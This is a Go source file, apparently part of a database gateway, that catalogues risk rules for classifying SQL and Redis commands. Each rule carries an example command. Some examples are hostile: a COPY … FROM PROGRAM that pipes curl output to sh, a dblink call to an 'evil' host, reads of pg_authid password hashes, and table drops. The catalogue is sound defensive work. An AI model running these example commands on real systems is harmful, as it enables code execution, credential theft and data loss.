@@ -1,0 +1,189 @@
+package rule
+
+import (
+	"sort"
+
+	"github.com/airlock-gw/airlock/protocols"
+)
+
+// Rule ids. Each id has one fixed risk in the catalogue; a classification's
+// risk is the highest risk among its rules (none when it has no rule).
+const (
+	// Input the analyzers cannot vouch for.
+	ParseError            = "parse.error"
+	ProtocolUnsupported   = "protocol.unsupported"
+	CommandUnknown        = "command.unknown"
+	StatementUnclassified = "statement.unclassified"
+
+	// Ordinary writes.
+	WriteInsert = "write.insert"
+	WriteUpdate = "write.update"
+	WriteDelete = "write.delete"
+	WriteMerge  = "write.merge"
+	WriteKey    = "write.key"
+
+	// Non-destructive DDL and session state.
+	DDLCreate          = "ddl.create"
+	DDLAlter           = "ddl.alter"
+	DDLOther           = "ddl.other"
+	SessionSet         = "session.set"
+	SessionReadWrite   = "session.read_write"
+	LockTable          = "lock.table"
+	MaintenanceRoutine = "maintenance.routine"
+	CodeExecute        = "code.execute"
+	AdminInspect       = "admin.inspect"
+
+	// Schema destruction.
+	SchemaDrop      = "schema.drop"
+	SchemaTruncate  = "schema.truncate"
+	SchemaAlterDrop = "schema.alter_drop"
+	SchemaRename    = "schema.rename"
+
+	// Unbounded writes.
+	WriteUnbounded = "write.unbounded"
+
+	// Privilege and identity.
+	PrivilegeGrant   = "privilege.grant"
+	PrivilegeRole    = "privilege.role"
+	PrivilegeSetRole = "privilege.set_role"
+	PrivilegePolicy  = "privilege.policy"
+	IntegrityDisable = "integrity.disable"
+	ReadCredentials  = "read.credentials"
+
+	// Opaque or dynamic code.
+	CodeAnonymous = "code.anonymous"
+	CodeDynamic   = "code.dynamic"
+	CodeDefine    = "code.define"
+	CodeCall      = "code.call"
+	CodeScript    = "code.script"
+
+	// Server administration.
+	AdminConfig      = "admin.config"
+	AdminShutdown    = "admin.shutdown"
+	AdminKill        = "admin.kill"
+	AdminReplication = "admin.replication"
+	AdminFlush       = "admin.flush"
+	AdminMaintenance = "admin.maintenance"
+	AdminBlocking    = "admin.blocking"
+	AdminMonitor     = "admin.monitor"
+	AdminDebug       = "admin.debug"
+
+	// Reach beyond the database.
+	ReachFile    = "reach.file"
+	ReachProgram = "reach.program"
+	ReachNetwork = "reach.network"
+	ReachPlugin  = "reach.plugin"
+)
+
+// Info describes one rule of the catalogue.
+type Info struct {
+	ID      string
+	Risk    protocols.Risk
+	Meaning string
+	Example string
+}
+
+// catalogue is the single source of truth for rule ids; RULES.md is
+// generated from it (go test ./sqlrisk/rule -run TestRulesDoc -update).
+var catalogue = []Info{
+	{ParseError, protocols.RiskHigh, "The command could not be parsed (or contains bytes the server would read differently, such as NUL). Airlock fails closed instead of guessing.", "SELEC * FROM t"},
+	{ProtocolUnsupported, protocols.RiskHigh, "No analyzer is configured for the command's protocol.", "(a command of an unknown protocol)"},
+	{CommandUnknown, protocols.RiskHigh, "Redis command absent from Airlock's command table (a module command or a typo), or called with the wrong number of arguments.", "FT.DROPINDEX idx"},
+	{StatementUnclassified, protocols.RiskHigh, "A parsed statement type the classifier has no mapping for; fails closed.", "(a statement type added by a newer parser)"},
+
+	{WriteInsert, protocols.RiskLow, "Inserts rows (INSERT, REPLACE … VALUES, INSERT … SELECT, COPY … FROM STDIN).", "INSERT INTO t VALUES (1)"},
+	{WriteUpdate, protocols.RiskLow, "UPDATE whose condition refers to the target's rows and is not a tautology.", "UPDATE t SET a = 1 WHERE id = $1"},
+	{WriteDelete, protocols.RiskLow, "DELETE whose condition refers to the target's rows and is not a tautology.", "DELETE FROM t WHERE id IN (SELECT id FROM old)"},
+	{WriteMerge, protocols.RiskLow, "MERGE whose join condition refers to the target's rows.", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a"},
+	{WriteKey, protocols.RiskLow, "Redis command that writes named keys.", "SET k v"},
+
+	{DDLCreate, protocols.RiskMedium, "Creates a table, index, view, sequence, type, schema or database, or a table from a query (CREATE TABLE AS, SELECT INTO).", "CREATE INDEX ON t (a)"},
+	{DDLAlter, protocols.RiskMedium, "Non-destructive ALTER (add a column, set a default, change a type, alter a sequence or a database's options).", "ALTER TABLE t ADD COLUMN b int"},
+	{DDLOther, protocols.RiskMedium, "Other catalogue change without data loss (COMMENT ON, SECURITY LABEL, statistics objects, collations).", "COMMENT ON TABLE t IS 'x'"},
+	{SessionSet, protocols.RiskMedium, "Changes a session setting other than the harmless client set-up ones (client_encoding, application_name, DateStyle, TimeZone, timeouts, SET NAMES, autocommit, user variables are risk none).", "SET search_path = app, public"},
+	{SessionReadWrite, protocols.RiskMedium, "Turns a read-only session default off.", "SET default_transaction_read_only = off"},
+	{LockTable, protocols.RiskMedium, "Takes explicit table locks.", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE"},
+	{MaintenanceRoutine, protocols.RiskMedium, "Routine maintenance that does not block readers (VACUUM, ANALYZE, REINDEX CONCURRENTLY, REFRESH MATERIALIZED VIEW).", "VACUUM ANALYZE t"},
+	{CodeExecute, protocols.RiskMedium, "Runs a statement prepared earlier in the session; its body was classified when it was prepared.", "EXECUTE get_user(1)"},
+	{AdminInspect, protocols.RiskMedium, "Reads server-wide state about other clients (Redis CLIENT LIST, SLOWLOG, ACL LOG).", "CLIENT LIST"},
+
+	{SchemaDrop, protocols.RiskHigh, "Drops an object: table, view, index, schema, database, function, extension, DROP OWNED, MySQL DROP PROCEDURE.", "DROP TABLE IF EXISTS users CASCADE"},
+	{SchemaTruncate, protocols.RiskHigh, "Empties tables (TRUNCATE, ALTER TABLE … TRUNCATE PARTITION).", "TRUNCATE users"},
+	{SchemaAlterDrop, protocols.RiskHigh, "ALTER that loses data or integrity: DROP COLUMN, DROP CONSTRAINT, DROP PRIMARY KEY/INDEX/FOREIGN KEY, DROP/DETACH PARTITION, NO INHERIT, DROP ATTRIBUTE.", "ALTER TABLE users DROP COLUMN email"},
+	{SchemaRename, protocols.RiskHigh, "Renames or moves an object (RENAME TABLE, ALTER … RENAME, ALTER … SET SCHEMA).", "ALTER TABLE users RENAME TO users_old"},
+
+	{WriteUnbounded, protocols.RiskHigh, "UPDATE, DELETE, MERGE or REPLACE … SELECT that can touch every row: no WHERE, a WHERE that refers to no column of the target (1=1, true, 'a'='a', NOT false, uncorrelated EXISTS), or a tautology (id = id, x OR NOT x, x IS NULL OR x IS NOT NULL, x LIKE '%'), wherever the statement hides (CTE, rule action, function body).", "WITH d AS (DELETE FROM users WHERE 1=1 RETURNING *) SELECT count(*) FROM d"},
+
+	{PrivilegeGrant, protocols.RiskHigh, "GRANT or REVOKE privileges or role membership, ALTER DEFAULT PRIVILEGES.", "GRANT ALL ON ALL TABLES IN SCHEMA public TO app"},
+	{PrivilegeRole, protocols.RiskHigh, "Creates, alters, renames or drops a role or user, sets a password, transfers ownership (ALTER … OWNER TO, REASSIGN OWNED), Redis ACL SETUSER/DELUSER.", "ALTER ROLE app SUPERUSER"},
+	{PrivilegeSetRole, protocols.RiskHigh, "Switches the session's identity: SET ROLE, SET SESSION AUTHORIZATION, set_config('role', …), MySQL SET ROLE / SET DEFAULT ROLE.", "SELECT set_config('role', 'postgres', false)"},
+	{PrivilegePolicy, protocols.RiskHigh, "Creates, alters or drops row-level security policies or switches row security on a table.", "ALTER TABLE accounts DISABLE ROW LEVEL SECURITY"},
+	{IntegrityDisable, protocols.RiskHigh, "Disables triggers, rules, foreign-key or uniqueness checks, replication or audit logging for the session or a table.", "SET session_replication_role = replica"},
+	{ReadCredentials, protocols.RiskHigh, "Reads stored credentials or password hashes (pg_authid, pg_shadow, pg_user_mappings, mysql.user, SHOW CREATE USER, Redis ACL LIST/GETUSER).", "SELECT rolpassword FROM pg_authid"},
+
+	{CodeAnonymous, protocols.RiskHigh, "Runs an anonymous code block (DO).", "DO $$ BEGIN PERFORM 1; END $$"},
+	{CodeDynamic, protocols.RiskHigh, "Executes SQL built from text at run time: PL/pgSQL EXECUTE, MySQL PREPARE … FROM @var, EXECUTE IMMEDIATE, BINLOG, and built-ins that run a query given as text (query_to_xml, ts_stat, ts_rewrite, crosstab, connectby).", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')"},
+	{CodeDefine, protocols.RiskHigh, "Defines or changes code that runs later: functions, procedures, triggers, event triggers, rules, extensions, languages, MySQL events, Redis FUNCTION LOAD.", "CREATE TRIGGER t BEFORE DELETE ON users FOR EACH ROW EXECUTE FUNCTION f()"},
+	{CodeCall, protocols.RiskHigh, "Calls a stored procedure whose body Airlock cannot see.", "CALL purge_all()"},
+	{CodeScript, protocols.RiskHigh, "Runs or manages server-side scripts (Redis EVAL, EVALSHA, EVAL_RO, FCALL, SCRIPT).", "EVAL \"return redis.call('del', KEYS[1])\" 1 k"},
+
+	{AdminConfig, protocols.RiskHigh, "Changes or reads server-wide configuration: ALTER SYSTEM, ALTER DATABASE … SET, pg_reload_conf(), superuser-only settings, MySQL SET GLOBAL/PERSIST, Redis CONFIG, MODULE UNLOAD.", "ALTER SYSTEM SET max_connections = 5"},
+	{AdminShutdown, protocols.RiskHigh, "Stops or restarts the server.", "SHUTDOWN"},
+	{AdminKill, protocols.RiskHigh, "Terminates or cancels other sessions (pg_terminate_backend, pg_cancel_backend, KILL, CLIENT KILL).", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"},
+	{AdminReplication, protocols.RiskHigh, "Changes replication or WAL/binlog state: publications, replication slots, pg_switch_wal, backups, CHANGE MASTER, RESET MASTER, PURGE BINARY LOGS, Redis FAILOVER, REPLICAOF NO ONE, CLUSTER changes.", "SELECT pg_drop_replication_slot('s')"},
+	{AdminFlush, protocols.RiskHigh, "Flushes server state or whole keyspaces (MySQL FLUSH and RESET, Redis FLUSHALL, FLUSHDB, SWAPDB).", "FLUSHALL ASYNC"},
+	{AdminMaintenance, protocols.RiskHigh, "Maintenance that takes exclusive locks or heavy I/O: VACUUM FULL, CLUSTER, REINDEX, CHECKPOINT, OPTIMIZE/REPAIR TABLE, Redis SAVE/BGSAVE/BGREWRITEAOF.", "VACUUM FULL users"},
+	{AdminBlocking, protocols.RiskHigh, "Blocks the whole server or all clients (Redis KEYS, CLIENT PAUSE, MySQL LOCK INSTANCE).", "KEYS *"},
+	{AdminMonitor, protocols.RiskHigh, "Streams every other client's commands (Redis MONITOR, SYNC, PSYNC).", "MONITOR"},
+	{AdminDebug, protocols.RiskHigh, "Debugging commands that can crash or stall the server (Redis DEBUG).", "DEBUG SEGFAULT"},
+
+	{ReachFile, protocols.RiskCritical, "Reads or writes the server's file system: COPY … TO/FROM 'file', pg_read_file, pg_ls_dir, lo_import/lo_export, CREATE TABLESPACE, MySQL INTO OUTFILE/DUMPFILE, LOAD_FILE(), LOAD DATA [LOCAL] INFILE, Redis CONFIG SET dir/dbfilename/logfile.", "COPY users TO '/tmp/users.csv'"},
+	{ReachProgram, protocols.RiskCritical, "Runs an operating-system program: COPY … PROGRAM, untrusted procedural languages (plpython3u, plperlu, …), file_fdw program option, sys_exec UDFs.", "COPY t FROM PROGRAM 'curl http://x | sh'"},
+	{ReachNetwork, protocols.RiskCritical, "Opens connections to other hosts: dblink, http extensions, foreign servers, user mappings, foreign tables, subscriptions, Redis MIGRATE, REPLICAOF host port, CLUSTER MEET.", "SELECT dblink_exec('host=evil', 'DROP TABLE t')"},
+	{ReachPlugin, protocols.RiskCritical, "Loads native code into the server: LOAD, C or internal language functions, INSTALL PLUGIN/COMPONENT, CREATE FUNCTION … SONAME, Redis MODULE LOAD.", "INSTALL PLUGIN x SONAME 'x.so'"},
+}
+
+var byID = func() map[string]Info {
+	m := make(map[string]Info, len(catalogue))
+	for _, in := range catalogue {
+		m[in.ID] = in
+	}
+	return m
+}()
+
+// Lookup returns the catalogue entry of id.
+func Lookup(id string) (Info, bool) {
+	in, ok := byID[id]
+	return in, ok
+}
+
+// RiskOf returns the risk of rule id; an id outside the catalogue is high
+// risk, so that an unknown rule never lowers a decision.
+func RiskOf(id string) protocols.Risk {
+	if in, ok := byID[id]; ok {
+		return in.Risk
+	}
+	return protocols.RiskHigh
+}
+
+// All returns the catalogue sorted by risk (worst first), then by id.
+func All() []Info {
+	out := append([]Info(nil), catalogue...)
+	sort.SliceStable(out, func(i, j int) bool {
+		if out[i].Risk != out[j].Risk {
+			return out[i].Risk > out[j].Risk
+		}
+		return out[i].ID < out[j].ID
+	})
+	return out
+}
+
+// IDs returns every rule id, sorted.
+func IDs() []string {
+	out := make([]string, 0, len(catalogue))
+	for _, in := range catalogue {
+		out = append(out, in.ID)
+	}
+	sort.Strings(out)
+	return out
+}
